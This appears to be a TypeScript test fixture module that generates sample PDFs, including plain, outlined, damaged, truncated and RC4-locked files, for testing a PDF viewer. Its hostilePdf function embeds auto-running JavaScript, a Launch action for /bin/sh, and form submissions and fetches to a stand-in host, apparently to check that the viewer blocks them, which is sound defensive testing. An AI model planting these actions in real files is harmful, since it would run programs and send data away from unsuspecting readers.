import { createHash } from 'node:crypto';
import { PDFDocument, PDFName, PDFRawStream, PDFString, StandardFonts } from 'pdf-lib';

/** A plain PDF of `pages` pages, each saying its number and council. */
export async function plainPdf(pages = 1, words = 'Inspection of Northmoor council'): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1) {
    pdf.addPage([595, 842]).drawText(`${words}, page ${page}`, { x: 60, y: 760, size: 14, font });
  }
  return pdf.save();
}

/** One page with a link to `address`. */
export async function linkingPdf(address: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  page.drawText('See the council’s plan', { x: 60, y: 760, size: 14, font });
  const link = pdf.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [60, 755, 220, 778],
    A: { Type: 'Action', S: 'URI', URI: PDFString.of(address) },
  });
  page.node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
  return pdf.save();
}

/**
 * Six pages with what a careful publisher adds: labels (i, ii, then 1 to 4), a table of contents of two levels, and the
 * named place "findings" on the fifth page.
 */
export async function orderlyPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await plainPdf(6));
  const { context, catalog } = pdf;
  const pages = pdf.getPages().map(({ ref }) => ref);
  const at = (page: number) => [pages[page - 1]!, PDFName.of('XYZ'), 0, 700, null];
  catalog.set(
    PDFName.of('PageLabels'),
    context.obj({ Nums: [0, { S: PDFName.of('r') }, 2, { S: PDFName.of('D') }] }),
  );
  catalog.set(PDFName.of('Dests'), context.obj({ findings: at(5) }));
  const [root, chapter, section, last] = [1, 2, 3, 4].map(() => context.nextRef());
  const entry = (title: string, page: number, links: object) =>
    context.obj({ Title: PDFString.of(title), Dest: at(page), ...links });
  context.assign(root!, context.obj({ Type: 'Outlines', First: chapter!, Last: last!, Count: 2 }));
  context.assign(
    chapter!,
    entry('What inspectors found', 3, {
      Parent: root!,
      Next: last!,
      First: section!,
      Last: section!,
      Count: 1,
    }),
  );
  context.assign(section!, entry('Leaders', 4, { Parent: chapter! }));
  context.assign(last!, entry('What must improve', 6, { Parent: root!, Prev: chapter! }));
  catalog.set(PDFName.of('Outlines'), root!);
  return pdf.save();
}

/** A real file of about `megabytes` MB: one page, and beside it bytes that no compression makes smaller. */
export async function heavyPdf(megabytes: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await plainPdf());
  const bytes = new Uint8Array(megabytes * 1e6);
  for (let at = 0; at < bytes.length; at += 65_536) crypto.getRandomValues(bytes.subarray(at, at + 65_536));
  const stream = PDFRawStream.of(pdf.context.obj({}), bytes);
  pdf.catalog.set(PDFName.of('InspectionNotesBallast'), pdf.context.register(stream));
  return pdf.save({ useObjectStreams: false });
}

/** Pages without a letter, as a scanner makes them. */
export async function scannedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawRectangle({ x: 60, y: 60, width: 300, height: 500 });
  return pdf.save();
}

/** A PDF header with nothing sensible after it. */
export const damagedPdf = (): Uint8Array => new TextEncoder().encode(`%PDF-1.7\n${'garbage '.repeat(300)}`);

/** The first half of a good file: PDF.js saves what it can of such a one. */
export const cutPdf = (bytes: Uint8Array): Uint8Array => bytes.slice(0, Math.floor(bytes.length / 2));

/**
 * A file that tries to run a script, to open another page and program, and to send its form away: when it is opened, when its page is
 * shown, and when its links are clicked.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  page.drawText('Inspection of Northmoor council', { x: 60, y: 760, size: 14, font });
  const away = 'https://elsewhere.example/';
  const script = (words: string) => ({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(words) });
  const register = (action: object) => pdf.context.register(pdf.context.obj(action as never));
  pdf.catalog.set(PDFName.of('OpenAction'), register(script(`app.launchURL("${away}script")`)));
  pdf.addJavaScript('main', `app.launchURL("${away}script")`);
  const program = { Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh') };
  const send = { Type: 'Action', S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(`${away}form`) } };
  const other = { Type: 'Action', S: 'GoToR', F: PDFString.of(`${away}other.pdf`), D: [0, 'Fit'] };
  const uri = {
    Type: 'Action',
    S: 'URI',
    URI: PDFString.of('javascript:fetch("https://elsewhere.example/")'),
  };
  page.node.set(PDFName.of('AA'), pdf.context.obj({ O: register(program) }));
  const links = [script(`this.submitForm("${away}click")`), program, send, other, uri].map((action, i) =>
    register({ Type: 'Annot', Subtype: 'Link', Rect: [60, 700 - i * 40, 220, 720 - i * 40], A: action }),
  );
  page.node.set(PDFName.of('Annots'), pdf.context.obj(links));
  return pdf.save();
}

/** Four pages; on the first a link to the fourth. */
export async function innerLinksPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await plainPdf(4));
  const [first, , , last] = pdf.getPages();
  const link = pdf.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [60, 755, 320, 778],
    Dest: [last!.ref, PDFName.of('XYZ'), 0, 800, null],
  });
  first!.node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
  return pdf.save();
}

/** A page with a table of two columns and a paragraph below it, without tags, as older reports are. */
export async function tablePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([595, 842]);
  const rows = [
    ['Inspection of Northmoor council', ''],
    ['Timeliness of visits', 'Requires improvement'],
    ['Quality of plans', 'Good'],
    ['Stability of workers', 'Improving'],
  ];
  for (const [i, [left, right]] of rows.entries()) {
    page.drawText(left!, { x: 60, y: 760 - i * 30, size: 12, font });
    if (right) page.drawText(right, { x: 330, y: 760 - i * 30, size: 12, font });
  }
  page.drawText('Leaders know their services, and children are seen by people who stay.', {
    ...{ x: 60, y: 600, size: 12, font },
  });
  return pdf.save();
}

const PADDING = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');

/**
 * A file of one page, locked with `password` by the oldest method of the format (40 bits, revision 2 of the standard
 * security handler, ISO 32000-1, 7.6.3), as no library here writes locked ones.
 */
export function lockedPdf(password: string, words: string): Uint8Array {
  const padded = Buffer.concat([Buffer.from(password, 'latin1'), PADDING]).subarray(0, 32);
  const id = Buffer.alloc(16, 7);
  const owner = rc4(md5(padded).subarray(0, 5), padded);
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
  const key = md5(Buffer.concat([padded, owner, permissions, id])).subarray(0, 5);
  const content = rc4(
    md5(Buffer.concat([key, Buffer.from([4, 0, 0, 0, 0])])).subarray(0, 10),
    Buffer.from(`BT /F1 14 Tf 60 760 Td (${words}) Tj ET`, 'latin1'),
  );
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(rc4(key, PADDING))} /P -4 >>`,
  ];
  return assembled(objects, `/Root 1 0 R /Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}]`);
}

function assembled(objects: string[], trailer: string): Uint8Array {
  let file = '%PDF-1.4\n';
  const places = objects.map((object, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  file += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

const md5 = (bytes: Buffer): Buffer => createHash('md5').update(bytes).digest();

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + state[i]! + key[i % key.length]!) & 255;
    [state[i], state[j]] = [state[j]!, state[i]!];
  }
  let [i, j] = [0, 0];
  return Buffer.from(
    bytes.map((byte) => {
      i = (i + 1) & 255;
      j = (j + state[i]!) & 255;
      [state[i], state[j]] = [state[j]!, state[i]!];
      return byte ^ state[(state[i]! + state[j]!) & 255]!;
    }),
  );
}
